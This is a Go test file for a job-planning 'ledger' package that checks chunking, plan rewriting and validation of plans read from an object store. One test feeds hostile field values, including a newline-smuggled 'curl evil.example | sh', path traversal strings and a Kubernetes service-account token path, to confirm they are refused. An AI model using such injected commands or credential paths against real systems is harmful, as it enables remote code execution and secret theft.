package ledger

import (
	"context"
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/blastfleet/blastfleet/internal/storage/objstore"
)

func TestChunking(t *testing.T) {
	got := ChunkByLetters([]int{5, 5, 5, 20, 1, 1}, 10)
	want := []Chunk{{0, 2, 10}, {2, 3, 5}, {3, 4, 20}, {4, 6, 2}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("ChunkByLetters = %v, want %v", got, want)
	}
	if got := ChunkByQueries(5, 2); !reflect.DeepEqual(got, []Chunk{{0, 2, 0}, {2, 4, 0}, {4, 5, 0}}) {
		t.Errorf("ChunkByQueries = %v", got)
	}
}

func TestPlan(t *testing.T) {
	forStores(t, func(t *testing.T, fresh func() objstore.Store) {
		ctx := context.Background()
		st := fresh()
		p := testPlan(ChunkByQueries(10, 3))
		p.CreatedAt = time.Now()
		if err := WritePlan(ctx, st, p); err != nil {
			t.Fatal(err)
		}
		if p.Policy.MaxAttempts != DefaultMaxAttempts || p.Policy.LeaseSeconds != DefaultLeaseSeconds {
			t.Errorf("policy defaults not applied: %+v", p.Policy)
		}
		again := testPlan(ChunkByQueries(10, 3))
		again.CreatedAt = time.Now().Add(time.Hour)
		if err := WritePlan(ctx, st, again); err != nil {
			t.Errorf("writing the same plan again: %v", err)
		}
		other := testPlan(ChunkByQueries(10, 3))
		other.Queries.SHA256 = "cc"
		err := WritePlan(ctx, st, other)
		if err == nil || !strings.Contains(err.Error(), "already holds a different plan") || !strings.Contains(err.Error(), "queries.sha256") {
			t.Errorf("different plan: %v", err)
		}
		got, err := ReadPlan(ctx, st)
		if err != nil || got.Queries.SHA256 != "aa" || len(got.Chunks) != 4 {
			t.Errorf("ReadPlan = %+v, %v", got, err)
		}
		if err := WritePlan(ctx, fresh(), testPlan([]Chunk{{1, 3, 0}})); err == nil {
			t.Error("a plan whose chunks skip query 0 was accepted")
		}
	})
}

// A plan is read from a store every partition and site can write: a
// hostile one is refused on reading, the error naming the field, before
// its strings reach a script, a path or a job name.
func TestReadPlanRefusesHostileFields(t *testing.T) {
	forStores(t, func(t *testing.T, fresh func() objstore.Store) {
		ctx := context.Background()
		for field, mutate := range map[string]func(*Plan){
			"plan name":              func(p *Plan) { p.Name = "x\ncurl evil.example | sh\n#" },
			"plan name ":             func(p *Plan) { p.Name = "a.b" }, // dots part Slurm job names
			"plan database.name":     func(p *Plan) { p.Database.Name = "../../etc" },
			"plan database.manifest": func(p *Plan) { p.Database.Manifest = "../other/manifest.json" },
			"plan queries.location":  func(p *Plan) { p.Queries.Location = "s3://b/q\n.fa" },
			"plan database.location": func(p *Plan) { p.Database.Location = "relative/db" },
			"plan policy":            func(p *Plan) { p.Policy.MaxStopped = -1 },
		} {
			st := fresh()
			p := testPlan(ChunkByQueries(10, 3))
			p.SchemaVersion, p.Policy = SchemaVersion, p.Policy.withDefaults()
			mutate(p)
			data, err := json.Marshal(p)
			if err != nil {
				t.Fatal(err)
			}
			// Written raw, as an attacker with the store's keys would.
			if _, err := st.PutIfAbsent(ctx, PlanKey, data); err != nil {
				t.Fatal(err)
			}
			if _, err := ReadPlan(ctx, st); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(field)) || !errors.Is(err, ErrInvalidPlan) {
				t.Errorf("%s: ReadPlan err = %v, want ErrInvalidPlan naming the field", field, err)
			}
			if err := WritePlan(ctx, fresh(), p); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(field)) {
				t.Errorf("%s: WritePlan err = %v, want one naming the field", field, err)
			}
		}
	})
}

// Local paths are for readers sharing the planner's filesystem only.
func TestPlanCheckRemote(t *testing.T) {
	p := testPlan(ChunkByQueries(10, 3))
	if err := p.CheckRemote(); err != nil {
		t.Errorf("s3 plan: %v", err)
	}
	p.Database.Location = "/etc"
	if err := p.CheckRemote(); err == nil || !strings.Contains(err.Error(), "database.location") {
		t.Errorf("local database: %v", err)
	}
	p = testPlan(ChunkByQueries(10, 3))
	p.Queries.Location = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	if err := p.CheckRemote(); err == nil || !strings.Contains(err.Error(), "queries.location") {
		t.Errorf("local queries: %v", err)
	}
}

// A plan written before maxStopped existed is the same plan as one
// written now with the default: planning the campaign again is a no-op.
func TestPlanWithoutMaxStoppedIsTheSame(t *testing.T) {
	forStores(t, func(t *testing.T, fresh func() objstore.Store) {
		ctx := context.Background()
		st := fresh()
		p := testPlan(ChunkByQueries(10, 3))
		p.SchemaVersion, p.Policy = SchemaVersion, p.Policy.withDefaults()
		old := *p
		old.Policy.MaxStopped = 0
		data, err := json.Marshal(old)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := st.PutIfAbsent(ctx, PlanKey, data); err != nil {
			t.Fatal(err)
		}
		if err := WritePlan(ctx, st, p); err != nil {
			t.Errorf("writing the plan again: %v", err)
		}
		if got := p.Policy.WithDefaults().MaxStopped; got != DefaultMaxStopped {
			t.Errorf("maxStopped %d, want the default %d", got, DefaultMaxStopped)
		}
	})
}
